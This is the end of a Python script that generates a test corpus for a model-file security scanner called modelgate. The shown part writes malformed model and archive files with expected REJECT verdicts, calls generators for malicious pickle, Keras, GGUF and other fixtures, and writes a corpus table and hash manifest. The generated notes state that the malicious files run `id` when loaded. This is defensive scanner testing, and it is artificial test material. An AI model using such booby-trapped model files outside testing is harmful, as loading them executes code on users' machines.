    write("invalid", "truncated.safetensors", st[:-7], "invalid", "REJECT: safetensors data shorter than the header says")
    write("invalid", "truncated.pkl", pickle.dumps({"a": list(range(100))}, protocol=4)[:-20], "invalid", "REJECT: pickle truncated")
    write("invalid", "garbage.pt", b"\x00\x01\x02" * 50, "invalid", "REJECT: not a model, named .pt")
    write("invalid", "image.pt", b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "invalid", "REJECT: PNG named .pt")
    write("invalid", "empty.pkl", b"", "invalid", "REJECT: empty .pkl")
    sd, _ = torch_state_dict()
    z = bytearray(torch_zip(sd))
    write("invalid", "bad-central-directory.pt", bytes(z[:-30]), "invalid", "REJECT: torch zip with a cut central directory")
    enc = bytearray(zip_bytes([("data.pkl", pickle.dumps([1, 2], protocol=2))]))
    enc[6] |= 1
    cd = enc.rfind(b"PK\x01\x02")
    enc[cd + 8] |= 1
    write("invalid", "encrypted.zip", bytes(enc), "invalid", "REJECT: member flagged encrypted")
    write("invalid", "bad-header.npy", b"\x93NUMPY\x01\x00\x10\x00{'descr': <f8}\n" + b"\0" * 8, "invalid", "REJECT: .npy header that is not a literal")
    write("invalid", "unknown-dtype.npy", npy_with_header("{'descr': 'Q7', 'fortran_order': False, 'shape': (1,), }", b"\0" * 8), "invalid", "REJECT: .npy descr numpy does not know")
    write("invalid", "truncated.gguf", gguf_bytes({})[:100], "invalid", "REJECT: GGUF cut in its tensor table")
    write("invalid", "truncated.npy", npy_with_header("{'descr': '<f8', 'fortran_order': False, 'shape': (100,), }", b"\0" * 80), "invalid", "REJECT: .npy data shorter than its shape")
    write("invalid", "truncated.tar", tar_bytes([("a.bin", b"x" * 2000, tarfile.REGTYPE)])[:1200], "invalid", "REJECT: tar cut inside a member")
    write("invalid", "bad.onnx", b"\x0a\xff\xff\xff\xff\x0f" + b"\0" * 10, "invalid", "REJECT: not a protobuf, named .onnx")
    write("invalid", "truncated.xz", lzma.compress(pickle.dumps(list(range(2000)), protocol=4), format=lzma.FORMAT_XZ)[:-40], "invalid", "REJECT: xz stream (of a benign pickle) cut before its end")
    write("invalid", "corrupt.joblib", b"\x78\x9c" + b"\xff" * 40, "invalid", "REJECT: zlib header then garbage, named .joblib")
    write("invalid", "corrupt.bz2.joblib", b"BZh91AY&SY" + b"\x00" * 30, "invalid", "REJECT: bzip2 header then garbage")
    write("invalid", "truncated.lz4", __import__("lz4.frame").frame.compress(PAYLOAD * 10)[:-9], "invalid", "REJECT: LZ4 frame cut before its end mark")
    write("invalid", "bad-keras.keras", zip_bytes([("config.json", b"{not json"), ("metadata.json", b"{}")]), "invalid", "REJECT: .keras whose config.json does not parse")
    write("invalid", "bad.h5", b"\x89HDF\r\n\x1a\n" + b"\xff" * 20, "invalid", "REJECT: HDF5 signature then garbage")
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "m.weights.h5")
        keras_model().save_weights(p)
        with open(p, "rb") as f:
            h5 = f.read()
    write("invalid", "truncated.weights.h5", h5[: len(h5) // 2], "invalid", "REJECT: Keras weights HDF5 cut in half", stable=False)
    write("invalid", "truncated.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 20, "invalid", "REJECT: 7-Zip (not inspected)")
    write("invalid", "bad-version.pkl", b"\x80\x09" + b"N.", "invalid", "REJECT: pickle protocol 9")
    write("invalid", "dup-members.zip", zip_bytes([("a.pkl", pickle.dumps(1, protocol=2)), ("a.pkl", pickle.dumps(2, protocol=2))]), "invalid", "REJECT: duplicate zip members")
    write("invalid", "zip-trailing.pt", torch_zip(sd) + b"junk", "invalid", "REJECT: bytes after the zip end record")


def main() -> None:
    write_benign_sklearn()
    write_benign_numpy()
    write_benign_boosters()
    write_benign_torch()
    write_benign_formats()
    write_benign_text()
    write_malicious_pickles()
    write_malicious_joblib()
    write_malicious_npy()
    write_malicious_compressed()
    write_malicious_tar()
    write_malicious_keras()
    write_malicious_tf()
    write_malicious_gguf()
    write_malicious_routing()
    write_malicious_boosters()
    write_invalid()
    import variants  # round-2 variants (an outside attacker's view of issue 15) and more benign models

    variants.write_all(sys.modules[__name__])
    import variants3  # round-3: scipy.stats, pathlib, HistGradientBoosting, zip layouts, TFLite, SavedModels

    variants3.write_all(sys.modules[__name__])
    lines = [
        "# modelgate scanner corpus (generated)",
        "",
        "Written by `bash scripts/scan-corpus/run.sh test/fixtures/model-scanning/corpus` (scripts/scan-corpus/generate.py) with",
        "the library versions pinned in scripts/scan-corpus/requirements.txt. Nothing was loaded or executed; malicious",
        "files run `id` (or name a function that would) if loaded. Expected verdicts: DANGEROUS (must be dangerous),",
        "FLAGGED (suspicious or dangerous), `or REJECT` (refusing as unparsable is also right), CLEAN, REJECT.",
        "`stable` = the bytes are reproducible on any machine (the interop suite compares them byte for byte; the",
        "others are compared by verdict).",
        "",
        "| fixture | class | expected verdict | stable |",
        "|---|---|---|---|",
    ]
    for path, cls, expect, stable in ROWS:
        lines.append(f"| {path} | {cls} | {expect} | {'yes' if stable else 'no'} |")
    counts = {k: sum(1 for r in ROWS if r[0].startswith(k + "/")) for k in ("benign", "malicious", "invalid")}
    lines += ["", f"{len(ROWS)} files: {counts['benign']} benign, {counts['malicious']} malicious, {counts['invalid']} invalid.", ""]
    with open(os.path.join(OUT, "CORPUS.md"), "w") as f:
        f.write("\n".join(lines))
    manifest = {}
    for path, _cls, _e, stable in ROWS:
        with open(os.path.join(OUT, path), "rb") as f:
            manifest[path] = {"sha256": hashlib.sha256(f.read()).hexdigest(), "stable": stable}
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=True)
        f.write("\n")
    print(f"{len(ROWS)} files: {counts}")


if __name__ == "__main__":
    main()
